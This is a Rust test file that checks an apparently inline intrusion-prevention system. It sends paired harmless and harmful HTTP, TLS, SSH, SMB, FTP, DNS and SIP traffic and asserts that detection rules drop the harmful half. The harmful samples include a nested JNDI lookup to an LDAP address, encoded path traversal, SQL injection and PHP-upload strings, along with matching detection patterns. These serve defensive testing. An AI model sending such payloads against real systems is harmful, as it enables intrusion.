//! Attacks over the kernel's own TCP and UDP, one row each: the harmless of a pair arrives whole, the harmful never as
//! far as what makes it one.

use super::talk::{self, BENIGN, CLOSED, STOPPED, Turn};
use Turn::{Down, Up, UpBytes};
use harness::live::{Live, bed};
use harness::netns::{At, Bed, SERVER};
use std::io::Write;
use std::net::UdpSocket;

/// `shape` makes a conversation of a word. Its last turn is the one that is stopped when the word is the harmful one:
/// of it the receiver gets less than the word ends at, or less than all where the word is not to be seen in it.
struct Attack {
    name: &'static str,
    rules: &'static [&'static str],
    port: u16,
    good: &'static str,
    bad: &'static str,
    shape: fn(&str) -> Vec<Turn>,
}

const fn attack(
    name: &'static str,
    port: u16,
    rules: &'static [&'static str],
    (good, bad): (&'static str, &'static str),
    shape: fn(&str) -> Vec<Turn>,
) -> Attack {
    Attack { name, rules, port, good, bad, shape }
}

fn get(uri: &str, more: &str) -> Vec<u8> {
    format!("GET {uri} HTTP/1.1\r\nHost: server.example\r\nUser-Agent: test\r\n{more}\r\n").into_bytes()
}

fn post(uri: &str, more: &str, body: &[u8]) -> Vec<u8> {
    let head = format!("POST {uri} HTTP/1.1\r\nHost: server.example\r\n{more}Content-Length: {}\r\n\r\n", body.len());
    [head.as_bytes(), body].concat()
}

fn answer(more: &str, body: &[u8]) -> Vec<u8> {
    let head = format!("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n{more}Content-Length: {}\r\n\r\n", body.len());
    [head.as_bytes(), body].concat()
}

/// In chunks of this many bytes.
fn chunked(head: &str, body: &[u8], size: usize) -> Vec<u8> {
    let mut all = format!("{head}Transfer-Encoding: chunked\r\n\r\n").into_bytes();
    for part in body.chunks(size) {
        all.extend(format!("{:x}\r\n", part.len()).bytes());
        all.extend(part);
        all.extend(b"\r\n");
    }
    all.extend(b"0\r\n\r\n");
    all
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut to = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    to.write_all(bytes).unwrap();
    to.finish().unwrap()
}

/// Bytes that look like nothing.
fn noise(n: u32) -> Vec<u8> {
    (0..n).map(|i| b'a' + (i.wrapping_mul(2_654_435_761) >> 27) as u8 % 26).collect()
}

fn block8(data: &[u8]) -> Vec<u8> {
    [&[data.len() as u8][..], data].concat()
}

fn block16(data: &[u8]) -> Vec<u8> {
    [&(data.len() as u16).to_be_bytes()[..], data].concat()
}

/// A TLS 1.2 ClientHello (RFC 5246, 7.4.1.2) with a server name (RFC 6066).
fn client_hello(name: &str) -> Vec<u8> {
    let name = [&[0, 0][..], &block16(&block16(&[&[0][..], &block16(name.as_bytes())].concat()))].concat();
    let body = [&[3, 3][..], &[7; 32], &block8(&[]), &block16(&[0xc0, 0x2f]), &block8(&[0]), &block16(&name)].concat();
    let message = [&[1, 0][..], &block16(&body)].concat();
    [&[22, 3, 1][..], &block16(&message)].concat()
}

/// A question for an address (RFC 1035).
fn question(name: &str) -> Vec<u8> {
    let labels: Vec<u8> = name.split('.').flat_map(|l| block8(l.as_bytes())).collect();
    [&[0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0][..], &labels, &[0, 0, 1, 0, 1]].concat()
}

/// An SMB1 tree connect to a share, framed as over port 445.
fn smb(share: &str) -> Vec<u8> {
    let path = [b"\\\\SERVER\\", share.as_bytes(), b"\0?????\0"].concat();
    let parameters = [&[4, 0xff, 0, 0, 0, 0, 0, 1, 0][..], &(path.len() as u16 + 1).to_le_bytes(), &[0]].concat();
    let message = [&b"\xffSMB\x75"[..], &[0; 27], &parameters, &path].concat();
    [&(message.len() as u32).to_be_bytes()[..], &message].concat()
}

const TCP: &[Attack] = &[
    attack(
        "uri",
        8001,
        &["http any any -> any any (http.uri; content:\"/cgi-bin/attack1\";"],
        ("good1", "attack1"),
        |w| vec![Up(get(&format!("/cgi-bin/{w}"), ""))],
    ),
    attack(
        "uri encoded",
        8002,
        &["http any any -> any any (http.uri; content:\"/a/etc/attack2\";"],
        ("/docs/", "/%2e%2e/etc/%61ttack2"),
        |w| vec![Up(get(&format!("/a/b{w}"), ""))],
    ),
    attack(
        "uri encoded twice",
        8003,
        &["http any any -> any any (http.uri; content:\"%2e%2e/attack3\";"],
        ("docs", "%252e%252e/attack3"),
        |w| vec![Up(get(&format!("/a/{w}"), ""))],
    ),
    attack(
        "header",
        8004,
        &["http any any -> any any (http.header; content:\"X-Run: attack4\";"],
        ("none", "attack4"),
        |w| vec![Up(get("/", &format!("X-Run: {w}\r\n")))],
    ),
    attack(
        "cookie",
        8005,
        &["http any any -> any any (http.cookie; content:\"session=attack5\";"],
        ("good5", "attack5"),
        |w| vec![Up(get("/", &format!("Cookie: session={w}; a=b\r\n")))],
    ),
    attack(
        "nested lookup in a header",
        8006,
        &["http any any -> any any (http.header; pcre:\"/\\$\\{(?:\\$\\{lower\\x3a)?j\\}?ndi\\x3a/i\";"],
        ("plain", "${${lower:j}ndi:ldap://198.51.100.7/a}"),
        |w| vec![Up(get("/", &format!("X-Api-Version: {w}\r\n")))],
    ),
    attack(
        "urlencoded body",
        8007,
        &["http any any -> any any (http.request_body; content:\"id=1' OR 7\";"],
        ("17", "1' OR 7"),
        |w| {
            vec![Up(post(
                "/q",
                "Content-Type: application/x-www-form-urlencoded\r\n",
                format!("a=b&id={w}=7").as_bytes(),
            ))]
        },
    ),
    attack(
        "uploaded file",
        8008,
        &["http any any -> any any (file.data; content:\"<?php attack8\";"],
        ("words", "<?php attack8();"),
        |w| {
            let part = "Content-Disposition: form-data; name=\"f\"; filename=\"a.php\"\r\n\r\n";
            let body = format!("--b1\r\n{part}{w} ?>\r\n--b1--\r\n");
            vec![Up(post("/up", "Content-Type: multipart/form-data; boundary=b1\r\n", body.as_bytes()))]
        },
    ),
    attack(
        "JSON body",
        8009,
        &[
            "http any any -> any any (http.request_body; content:\"|22|__proto__|22|\"; content:\"attack9\"; distance:0;",
        ],
        ("\"name\": \"good9\"", "\"__proto__\": \"attack9\""),
        |w| vec![Up(post("/api", "Content-Type: application/json\r\n", format!("{{{w}}}").as_bytes()))],
    ),
    attack(
        "chunked body",
        8010,
        &["http any any -> any any (http.request_body; content:\"attack10\";"],
        ("good10", "attack10"),
        |w| vec![Up(chunked("POST /c HTTP/1.1\r\nHost: x\r\n", format!("a={w}&b").as_bytes(), 3))],
    ),
    attack(
        "compressed body",
        8011,
        &["http any any -> any any (http.request_body; content:\"attack11\";"],
        ("good11", "attack11"),
        |w| {
            let body = gzip(&[&noise(3_000)[..], w.as_bytes(), &noise(500)].concat());
            vec![Up(post("/z", "Content-Encoding: gzip\r\n", &body))]
        },
    ),
    attack(
        "page that attacks",
        8012,
        &["http any any -> any any (flow:to_client; file.data; content:\"unescape(attack12\";"],
        ("good12", "unescape(attack12)"),
        |w| vec![Up(get("/page", "")), Down(answer("", format!("<script>{w}</script>").as_bytes()))],
    ),
    attack(
        "compressed page that attacks",
        8013,
        &["http any any -> any any (flow:to_client; file.data; content:\"unescape(attack13\";"],
        ("good13", "unescape(attack13)"),
        |w| {
            let body = gzip(&[&noise(20_000)[..], w.as_bytes(), &noise(2_000)].concat());
            vec![Up(get("/page", "Accept-Encoding: gzip\r\n")), Down(answer("Content-Encoding: gzip\r\n", &body))]
        },
    ),
    attack(
        "compressed page in chunks",
        8014,
        &["http any any -> any any (flow:to_client; file.data; content:\"unescape(attack14\";"],
        ("good14", "unescape(attack14)"),
        |w| {
            let body = gzip(&[&noise(9_000)[..], w.as_bytes()].concat());
            let head = "HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\n";
            vec![Up(get("/page", "")), Down(chunked(head, &body, 700))]
        },
    ),
    attack(
        "pipelined",
        8015,
        &["http any any -> any any (http.uri; content:\"/attack15\";"],
        ("good15", "attack15"),
        |w| {
            let both = [get("/one", ""), get(&format!("/{w}"), "")].concat();
            vec![Up(get("/first", "")), Down(answer("", b"first")), Up(both)]
        },
    ),
    attack(
        "a byte a segment",
        8016,
        &["http any any -> any any (http.uri; content:\"/attack16\";"],
        // A request is one when its line has ended.
        ("good16 HTTP/1.1\r\n", "attack16 HTTP/1.1\r\n"),
        |w| vec![UpBytes(format!("GET /{w}Host: server.example\r\n\r\n").into_bytes())],
    ),
    attack(
        "after a large body",
        8017,
        &["http any any -> any any (http.uri; content:\"/attack17\";"],
        ("good17", "attack17"),
        |w| {
            vec![
                Up(post("/put", "", &noise(600_000))),
                Down(answer("", &noise(600_000))),
                Up(get(&format!("/{w}"), "")),
            ]
        },
    ),
    attack(
        "one request allows, the next does",
        8018,
        &[
            "http any any -> any any (http.uri; content:\"/attack18\"; flowbits:set,e2e.18; flowbits:noalert;",
            "http any any -> any any (http.uri; content:\"/admin18\"; flowbits:isset,e2e.18;",
        ],
        ("good18", "attack18"),
        |w| vec![Up(get(&format!("/{w}"), "")), Down(answer("", b"ok")), Up(get("/admin18", ""))],
    ),
    attack(
        "server name",
        443,
        &["tls any any -> any any (tls.sni; content:\"bad.example\";"],
        ("fine.example", "bad.example"),
        |w| vec![Up(client_hello(w))],
    ),
    attack(
        "SSH banner",
        22,
        &["tcp any any -> any 22 (flow:to_server; content:\"SSH-2.0-attack\"; depth:14;"],
        ("OpenSSH_9", "attack"),
        |w| vec![Down(b"SSH-2.0-OpenSSH_9.2\r\n".to_vec()), Up(format!("SSH-2.0-{w}\r\n").into_bytes())],
    ),
    attack(
        "TCP payload",
        4444,
        &["tcp any any -> any 4444 (content:\"|de ad 00 be ef|attack21\";"],
        ("good21", "attack21"),
        |w| vec![Up([&noise(100)[..], &[0xde, 0xad, 0, 0xbe, 0xef], w.as_bytes()].concat())],
    ),
    attack(
        "TCP payload over segments",
        4445,
        &["tcp any any -> any 4445 (content:\"attack22-in-a-long-word\";"],
        ("a-harmless-long-word", "attack22-in-a-long-word"),
        |w| vec![UpBytes([&noise(20)[..], w.as_bytes(), b"\n"].concat())],
    ),
    attack(
        "SMB share",
        445,
        &[
            "tcp any any -> any 445 (flow:to_server,established; content:\"|ff|SMB|75|\"; offset:4; depth:5; content:\"attack23|00|\"; distance:0;",
        ],
        ("public", "attack23"),
        |w| vec![Up(smb(w))],
    ),
    attack(
        "line too long",
        2121,
        &[
            "tcp any any -> any 2121 (flow:to_server; content:\"USER \"; isdataat:60,relative; content:!\"|0a|\"; within:60;",
        ],
        ("anonymous", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"),
        |w| vec![Down(b"220 ready\r\n".to_vec()), Up(format!("USER {w}\r\n").into_bytes())],
    ),
    attack(
        "DNS over TCP",
        53,
        &["dns any any -> any any (dns.query; content:\"tcp.bad.example\";"],
        ("tcp.fine.example", "tcp.bad.example"),
        |w| vec![Up(block16(&question(w)))],
    ),
];

fn sid(row: usize, rule: usize) -> usize {
    1000 + 10 * row + rule
}

/// Of a row the last rule stops; those before it only prepare.
fn rules<'a>(all: impl Iterator<Item = &'a [&'a str]>, first: usize) -> String {
    let one = |(row, rules): (usize, &[&str])| -> String {
        let action = |i| if i + 1 == rules.len() { "drop" } else { "alert" };
        rules.iter().enumerate().map(|(i, r)| format!("{} {r} sid:{};)\n", action(i), sid(first + row, i))).collect()
    };
    all.enumerate().map(one).collect()
}

/// Where a conversation's last turn becomes harmful.
fn harmful(turn: &Turn, word: &str) -> usize {
    let bytes = turn.bytes();
    bytes.windows(word.len()).position(|w| w == word.as_bytes()).map_or(bytes.len(), |at| at + word.len())
}

fn tcp(bed: &Bed, a: &Attack, word: &str, wait: std::time::Duration) -> Result<(), String> {
    let (mut client, mut server) = talk::connect(bed, SERVER, a.port);
    let turns = (a.shape)(word);
    let (last, before) = turns.split_last().unwrap();
    for turn in before {
        if talk::take(turn, (&mut client, &mut server), BENIGN) != turn.bytes() {
            return Err(format!("{}: {word}: what leads to it is not received as sent", a.name));
        }
    }
    let got = talk::take(last, (&mut client, &mut server), wait);
    let whole = got == last.bytes();
    match word == a.good {
        true if !whole => Err(format!("{}: the harmless is not received as sent, but {} bytes", a.name, got.len())),
        false if got.len() >= harmful(last, word) => Err(format!("{}: {} bytes of it arrived", a.name, got.len())),
        _ => Ok(()),
    }
}

#[test]
fn attacks_over_tcp_do_not_arrive() {
    let Some(bed) = bed("attacks_over_tcp_do_not_arrive") else { return };
    let live = Live::with(&bed, "tcp", &rules(TCP.iter().map(|a| a.rules), 0), &CLOSED);
    let one = |a: &Attack| -> Result<(), String> {
        tcp(&bed, a, a.good, BENIGN)?;
        tcp(&bed, a, a.bad, STOPPED)?;
        tcp(&bed, a, a.good, BENIGN)
    };
    let wrong: Vec<String> = std::thread::scope(|s| {
        let all: Vec<_> = TCP.iter().map(|a| s.spawn(move || one(a))).collect();
        all.into_iter().filter_map(|t| t.join().unwrap().err()).collect()
    });
    assert!(wrong.is_empty(), "\n{}", wrong.join("\n"));
    talk::blocked(&live, TCP.iter().enumerate().map(|(row, a)| sid(row, a.rules.len() - 1)));
}

/// Datagrams of a word; the second is one that follows it.
struct Datagram {
    name: &'static str,
    rules: &'static [&'static str],
    port: u16,
    good: &'static str,
    bad: &'static str,
    shape: fn(&str) -> Vec<u8>,
}

const UDP: &[Datagram] = &[
    Datagram {
        name: "DNS question",
        rules: &["dns any any -> any any (dns.query; content:\"udp.bad.example\";"],
        port: 53,
        good: "udp.fine.example",
        bad: "udp.bad.example",
        shape: question,
    },
    Datagram {
        name: "UDP payload",
        rules: &["udp any any -> any 5060 (content:\"INVITE sip:attack\"; depth:17;"],
        port: 5060,
        good: "alice",
        bad: "attack",
        shape: |w| format!("INVITE sip:{w}@server.example SIP/2.0\r\n\r\n").into_bytes(),
    },
    Datagram {
        name: "UDP bytes by their number",
        rules: &["udp any any -> any 1900 (content:\"len=\"; byte_test:3,>,512,0,relative,string,dec;"],
        port: 1900,
        good: "512",
        bad: "513",
        shape: |w| format!("len={w};").into_bytes(),
    },
];

#[test]
fn attacks_over_udp_do_not_arrive() {
    let Some(bed) = bed("attacks_over_udp_do_not_arrive") else { return };
    let live = Live::with(&bed, "udp", &rules(UDP.iter().map(|d| d.rules), 100), &CLOSED);
    for d in UDP {
        let server = bed.inside(At::Server, || UdpSocket::bind((SERVER, d.port))).unwrap();
        let arrives = |word: &str, tries: u32| {
            let client = bed.inside(At::Client, || UdpSocket::bind("0.0.0.0:0")).unwrap();
            let datagram = (d.shape)(word);
            let mut room = [0; 2048];
            server.set_read_timeout(Some(STOPPED / 3)).unwrap();
            // Nobody but us sends it again if a busy machine kept the worker waiting.
            (0..tries).any(|_| {
                client.send_to(&datagram, (SERVER, d.port)).unwrap();
                server.recv_from(&mut room).is_ok_and(|(n, _)| room[..n] == datagram)
            })
        };
        assert!(arrives(d.good, 20), "{}: the harmless did not arrive", d.name);
        assert!(!arrives(d.bad, 3), "{}: {} arrived", d.name, d.bad);
        assert!(arrives(d.good, 20), "{}: the harmless did not arrive afterwards", d.name);
    }
    talk::blocked(&live, (0..UDP.len()).map(|row| sid(100 + row, 0)));
}
